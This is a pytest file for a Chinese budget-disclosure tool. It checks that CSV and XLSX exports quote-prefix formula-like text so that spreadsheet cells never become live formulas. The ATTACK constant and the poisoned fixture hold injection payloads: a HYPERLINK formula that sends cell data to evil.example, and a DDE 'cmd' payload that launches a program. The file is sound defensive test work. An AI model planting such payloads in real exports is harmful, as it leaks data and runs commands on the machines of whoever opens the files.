"""Exports opened in Excel: text from a disclosure must never become a live formula (CSV/XLSX injection)."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

import chanhe_budget as cb
from chanhe_budget.cli import main
from chanhe_budget.corpus import load_corpus
from chanhe_budget.corpus.catalog import add_document
from chanhe_budget.corpus.fdp import export_corpus
from chanhe_budget.exports import is_formula_like, neutralise_formulas

from .conftest import SEED

ATTACK = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'


@pytest.fixture()
def poisoned(tmp_path):
    """The seed with a project named like a formula, and other formula-leading names."""
    text = SEED.read_text(encoding="utf-8")
    text = text.replace("智慧社区", ATTACK.replace("\t", " "))
    text = text.replace("电子政务网年租费", "@SUM(1+1)*cmd|' /C calc'!A0")
    path = tmp_path / "2025" / "poisoned.txt"
    path.parent.mkdir()
    path.write_text(text, encoding="utf-8")
    return path


def test_formula_like_text_is_recognised_and_numbers_are_not():
    assert all(is_formula_like(v) for v in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", ATTACK))
    assert not any(is_formula_like(v) for v in ("-12.50", "+3", "-", "——", "行政运行", "12,345.00", 5.0, None))
    frame = pd.DataFrame({"name": [ATTACK, "行政运行", "-1.5"], "amount": [-1.0, 2.0, 3.0]})
    out = neutralise_formulas(frame)
    assert out["name"].tolist() == ["'" + ATTACK, "行政运行", "-1.5"]
    assert out["amount"].tolist() == [-1.0, 2.0, 3.0]


def test_tables_csv_has_no_cell_starting_a_formula(poisoned, tmp_path):
    assert cb.read_disclosure(poisoned).tables["projects"]["project_name"].isin([ATTACK]).any()
    out = tmp_path / "csv"
    assert main(["tables", str(poisoned), "--out", str(out)]) == 0
    cells = [cell for path in out.glob("*.csv")
             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
    assert "'" + ATTACK in cells
    assert not [c for c in cells if is_formula_like(c)]


def test_tables_xlsx_holds_text_not_formulas(poisoned, tmp_path):
    out = tmp_path / "xlsx"
    assert main(["tables", str(poisoned), "--out", str(out), "--format", "xlsx"]) == 0
    book = openpyxl.load_workbook(out / "tables.xlsx")
    formulas = [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for row in book["projects"].iter_rows() for c in row}
    assert ATTACK in texts  # kept as printed, as text (quote prefix), not rewritten


def test_corpus_export_csv_and_xlsx_hold_no_formula(poisoned, tmp_path):
    root = tmp_path / "project"
    add_document(poisoned, root=root)
    corpus = load_corpus(root, scheduler="synchronous", cache=False)
    paths = export_corpus(corpus, tmp_path / "export", ("csv", "xlsx"))
    cells = [cell for path in paths if path.suffix == ".csv"
             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
    assert cells and not [c for c in cells if is_formula_like(c)]
    book = openpyxl.load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
    assert not [c for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
